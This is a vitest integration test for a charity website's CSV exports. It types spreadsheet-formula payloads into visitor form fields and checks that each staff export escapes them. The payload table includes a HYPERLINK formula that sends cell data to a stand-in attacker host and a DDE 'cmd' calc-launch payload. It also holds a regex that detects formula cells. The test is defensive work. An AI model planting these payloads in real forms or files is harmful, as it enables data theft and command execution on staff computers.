// Every free-text field a visitor can type, filled with something a spreadsheet would run, and
// every CSV staff can download, checked cell by cell: on a real PostgreSQL, each record made the
// way its form makes it (the form's own schema, then the domain function the action calls).
//
// Both lists are tables: a new field or a new export is one line here.
import crypto from "node:crypto";
import { afterAll, beforeAll, describe, expect, it, vi } from "vitest";

// lib/stripe/client.ts reads lib/env at import time: pin what it validates (empty means unset).
vi.hoisted(() => {
  vi.stubEnv("STRIPE_SECRET_KEY", "");
  vi.stubEnv("STRIPE_WEBHOOK_SECRET", "");
  vi.stubEnv("STRIPE_API_BASE", "");
  vi.stubEnv("SITE_URL", "");
  vi.stubEnv("DATABASE_URL", "");
});

import { spreadsheetCsvText, type SpreadsheetExport } from "@/lib/csv/spreadsheet-csv";
import { EXPORT_PAGE_SIZE } from "@/lib/csv/rows-in-pages";
import type { Db } from "@/lib/db";
import { donationFilterSchema } from "@/lib/donations/admin/admin-donations";
import { parseDonationForm } from "@/lib/donations/checkout/donation-form-schema";
import { exportDonationsCsv } from "@/lib/donations/admin/export-donations-csv";
import { handleWebhook } from "@/lib/donations/webhook/handle-webhook";
import { startCheckout } from "@/lib/donations/checkout/start-checkout";
import { exportGiftAidScheduleCsv } from "@/lib/gift-aid/export-gift-aid-schedule-csv";
import { StaffRole, SubscriberStatus } from "@/lib/generated/prisma/enums";
import { exportSubscribersCsv } from "@/lib/newsletter/export-subscribers-csv";
import { signupSchema } from "@/lib/newsletter/signup-schema";
import { subscribe } from "@/lib/newsletter/subscribe";
import { testModePayments } from "@/lib/stripe/payments";
import { volunteerFilterSchema } from "@/lib/volunteers/admin-volunteers";
import { parseVolunteerApplication } from "@/lib/volunteers/application-schema";
import { exportVolunteersCsv } from "@/lib/volunteers/export-volunteers-csv";
import { submitVolunteerApplication } from "@/lib/volunteers/submit-application";
import { seed } from "@/prisma/seed/seed";
import { checkoutCampaign } from "./donations/fixtures";
import { recordingEnqueue } from "../support/newsletter-fixtures";
import { parseCsvRecords } from "../support/parse-csv";
import { TEST_WEBHOOK_SECRET, checkoutEvent, checkoutSession, signedDelivery, stripeId } from "../support/stripe-events";
import { createTestDatabase, type TestDatabase } from "../support/test-database";

type ExportName = "donations" | "hmrc" | "subscribers" | "volunteers";
type Form = "volunteer" | "newsletter signup" | "donation form" | "Stripe checkout";

/**
 * What a visitor can type, where it goes, and the exports that carry it as typed (each value is
 * already as its form stores it: trimmed, and an email lower-case). `refused`: the form's schema turns this value away, so it never reaches a
 * file. HMRC's schedule keeps only letters, spaces, hyphens and apostrophes of a name (and turns a
 * surname's hyphens into spaces), so a formula typed as a name or title is already gone from that
 * file; it is still checked.
 */
const fields: { form: Form; field: string; value: string; carriedBy: ExportName[]; refused?: true }[] = [
  { form: "volunteer", field: "name", value: '=HYPERLINK("https://evil.example/?d="&A1,"Open")', carriedBy: ["volunteers"] },
  { form: "volunteer", field: "email", value: "-2+3@example.org", carriedBy: ["volunteers"] },
  { form: "volunteer", field: "phone", value: "+44 7700 900123", carriedBy: ["volunteers"] },
  { form: "volunteer", field: "otherLanguages", value: "@SUM(1+1)", carriedBy: ["volunteers"] },
  { form: "volunteer", field: "note", value: "=cmd|' /C calc'!A0\n-second line", carriedBy: ["volunteers"] },
  { form: "newsletter signup", field: "email", value: "+1-1@example.org", carriedBy: ["subscribers"] },
  { form: "donation form", field: "title", value: "=Dr", carriedBy: [] },
  { form: "donation form", field: "firstName", value: "@Jo", carriedBy: [] },
  // HMRC wants a hyphen in a surname as a space, so "-Smith" reaches the schedule as "Smith".
  { form: "donation form", field: "lastName", value: "-Smith", carriedBy: [] },
  { form: "donation form", field: "houseNameOrNumber", value: '=HYPERLINK("http://x.example","1")', carriedBy: ["hmrc"] },
  { form: "donation form", field: "addressLine", value: "+High Street", carriedBy: [] },
  { form: "donation form", field: "postcode", value: "=1+1", carriedBy: [], refused: true },
  { form: "Stripe checkout", field: "name", value: '=HYPERLINK("https://evil.example","Refund")', carriedBy: ["donations"] },
  { form: "Stripe checkout", field: "email", value: "-evil@example.org", carriedBy: ["donations"] },
];

const typed = (form: Form) => Object.fromEntries(fields.filter((f) => f.form === form && !f.refused).map((f) => [f.field, f.value]));

let t: TestDatabase;
let adminId: string;
let claimId: string;

/** Every export staff can download, as the download writes it. */
const exports: Record<ExportName, (db: Db) => Promise<SpreadsheetExport<string> | null>> = {
  donations: (db) => exportDonationsCsv(db, adminId, donationFilterSchema.parse({ status: "ALL" })),
  hmrc: async (db) => (await exportGiftAidScheduleCsv(db, adminId, claimId, 1))?.data ?? null,
  subscribers: (db) => exportSubscribersCsv(db, adminId, {}),
  volunteers: (db) => exportVolunteersCsv(db, adminId, volunteerFilterSchema.parse({})),
};

async function cellsOf(name: ExportName): Promise<string[][]> {
  const data = await exports[name](t.db);
  if (!data) throw new Error(`the ${name} export is empty`);
  const records = parseCsvRecords(await spreadsheetCsvText(data));
  expect(records.length - 1).toBe(data.count);
  return records;
}

beforeAll(async () => {
  t = await createTestDatabase();
  await seed(t.url);
  adminId = (await t.db.user.create({ data: { email: "exports@example.org", role: StaffRole.ADMIN } })).id;
  const { enqueue } = recordingEnqueue();

  const volunteer = parseVolunteerApplication(
    {
      place: "CALAIS",
      availableFrom: "2027-01-04",
      availableTo: "2027-01-10",
      languages: ["FRENCH", "OTHER"],
      drivingLicence: "no",
      adult: "on",
      ...typed("volunteer"),
    },
    "2026-12-01",
  );
  if (!volunteer.ok) throw new Error(`the volunteer form refused: ${JSON.stringify(volunteer.fieldErrors)}`);
  await submitVolunteerApplication(t.db, enqueue, volunteer.data);

  await subscribe(t.db, enqueue, signupSchema.parse({ source: "home", ...typed("newsletter signup") }));

  const donation = parseDonationForm({
    gift: "coat",
    quantity: "1",
    frequency: "once",
    attempt: crypto.randomUUID(),
    giftAid: "on",
    giftAidScope: "ENDURING",
    giftAidConfirm: "on",
    postcode: "CT16 1AA",
    ...typed("donation form"),
  });
  if (!donation.ok) throw new Error(`the donation form refused: ${JSON.stringify(donation.fieldErrors)}`);
  const { donationId } = await startCheckout(t.db, testModePayments("https://calaiswinteraid.example"), {
    form: donation.data,
    campaign: await checkoutCampaign(t.db),
    siteUrl: "https://calaiswinteraid.example",
  });
  const pending = await t.db.donation.findUniqueOrThrow({ where: { id: donationId } });
  const checkout = typed("Stripe checkout");
  const session = checkoutSession({
    id: pending.stripeSessionId ?? "",
    donationId,
    mode: "payment",
    amountTotal: pending.amountPence,
    paymentIntent: stripeId("pi_"),
    name: checkout.name ?? null,
    email: checkout.email ?? null,
  });
  const { body, signature } = signedDelivery(checkoutEvent("checkout.session.completed", session));
  expect(await handleWebhook(t.db, body, signature, { secret: TEST_WEBHOOK_SECRET, enqueue })).toMatchObject({ status: 200 });

  // The claim batch the admin's button makes (which donations may be claimed is tested in
  // gift-aid-claim.test.ts; here what matters is what the schedule file writes).
  claimId = (await t.db.giftAidClaim.create({ data: { createdById: adminId, donationCount: 1, totalPence: pending.amountPence } })).id;
  await t.db.donation.update({ where: { id: donationId }, data: { giftAidClaimId: claimId, giftAidClaimedAt: new Date() } });
});
afterAll(() => t?.drop());

/** A cell a spreadsheet would run: =, +, - or @ first (after any white space, or full width), or a tab or carriage return. */
const runsAsFormula = (cell: string) => /^(?:\s*[=+\-@\uFF1D\uFF0B\uFF0D\uFF20]|[\t\r])/u.test(cell);
/** A number the site wrote (an amount): a spreadsheet reads it as that number, nothing more. */
const isPlainNumber = (cell: string) => /^-?\d+(\.\d+)?$/.test(cell);

describe("every export, with a formula in every field a visitor can type", () => {
  it.each(Object.keys(exports) as ExportName[])("the %s export has no cell a spreadsheet would run", async (name) => {
    const [header = [], ...rows] = await cellsOf(name);
    expect(rows.length).toBeGreaterThan(0);
    for (const cell of [...header, ...rows.flat()]) {
      if (runsAsFormula(cell) && !isPlainNumber(cell)) throw new Error(`the ${name} export has a live formula cell: ${JSON.stringify(cell)}`);
    }
  });

  it.each(fields.filter((f) => !f.refused).flatMap((f) => f.carriedBy.map((name) => ({ ...f, name }))))(
    "$form, $field: in the $name export whole, behind a '",
    async ({ name, value }) => {
      expect((await cellsOf(name)).flat()).toContain(`'${value}`);
    },
  );

  it.each(fields.filter((f) => f.refused))("$form, $field: $value is refused by the form", ({ form, field, value }) => {
    if (form !== "donation form") throw new Error(`say how the ${form} is checked`);
    const parsed = parseDonationForm({
      gift: "coat",
      quantity: "1",
      attempt: crypto.randomUUID(),
      giftAid: "on",
      giftAidScope: "ENDURING",
      giftAidConfirm: "on",
      ...typed(form),
      [field]: value,
    });
    expect(parsed.ok ? null : parsed.fieldErrors[field]).toEqual(expect.any(String));
  });
});

describe("exports are whole", () => {
  // More rows than two page reads (lib/csv/rows-in-pages.ts): every one arrives, once, in the file.
  const extra = EXPORT_PAGE_SIZE * 2 + 7;

  it("the donations export writes every donation, past the size of one page read", async () => {
    const campaignId = (await checkoutCampaign(t.db)).id;
    const ids = Array.from({ length: extra }, () => crypto.randomUUID());
    await t.db.donation.createMany({
      data: ids.map((id, i) => ({
        id,
        campaignId,
        kind: "CUSTOM" as const,
        amountPence: 200 + i,
        livemode: false,
        attemptKey: `many/${id}`,
        donorName: `=Donor ${i}`,
      })),
    });
    const data = await exportDonationsCsv(t.db, adminId, donationFilterSchema.parse({ status: "ALL" }));
    const records = parseCsvRecords(await spreadsheetCsvText(data)).slice(1);
    expect(records).toHaveLength(data.count);
    const written = records.map((r) => r[0]);
    expect(new Set(written).size).toBe(written.length);
    expect(written).toEqual(expect.arrayContaining(ids));
    // Guarded on every page, not only the first.
    expect(records.filter((r) => r[9]?.startsWith("'=Donor "))).toHaveLength(extra);
  });

  it("the volunteers export writes every application, past the size of one page read", async () => {
    const ids = Array.from({ length: extra }, () => crypto.randomUUID());
    await t.db.volunteerApplication.createMany({
      data: ids.map((id, i) => ({
        id,
        name: `+Volunteer ${i}`,
        email: `v-${i}@example.org`,
        place: "DUNKIRK" as const,
        availableFrom: new Date("2027-02-01"),
        availableTo: new Date("2027-02-08"),
        drivingLicence: false,
        canDriveVan: false,
        confirmedAdultAt: new Date(),
      })),
    });
    const data = await exportVolunteersCsv(t.db, adminId, volunteerFilterSchema.parse({ place: "DUNKIRK" }));
    expect(data.count).toBe(extra);
    const records = parseCsvRecords(await spreadsheetCsvText(data)).slice(1);
    expect(records.map((r) => r[0]).sort()).toEqual([...ids].sort());
    expect(records.every((r) => r[3]?.startsWith("'+Volunteer "))).toBe(true);
  });

  it("each export is audit-logged with the count it wrote", async () => {
    const logged = await t.db.auditLog.findMany({ where: { actorId: adminId }, select: { action: true, subject: true } });
    expect(logged).toEqual(
      expect.arrayContaining([
        { action: "volunteers.export", subject: `${extra} applications` },
        expect.objectContaining({ action: "donations.export" }),
        expect.objectContaining({ action: "subscribers.export" }),
        expect.objectContaining({ action: "gift-aid.download" }),
      ]),
    );
  });

  it("the subscribers export writes every subscriber, past the size of one page read", async () => {
    await t.db.subscriber.createMany({
      data: Array.from({ length: extra }, (_, i) => ({ email: `many-${String(i).padStart(5, "0")}@example.org`, status: SubscriberStatus.CONFIRMED })),
    });
    const data = await exportSubscribersCsv(t.db, adminId, { q: "many-" });
    expect(data.count).toBe(extra);
    const emails = parseCsvRecords(await spreadsheetCsvText(data))
      .slice(1)
      .map((r) => r[0]);
    // All made in one statement: the same signup time, so the order among them is by id.
    expect(emails.sort()).toEqual(Array.from({ length: extra }, (_, i) => `many-${String(i).padStart(5, "0")}@example.org`));
  });
});
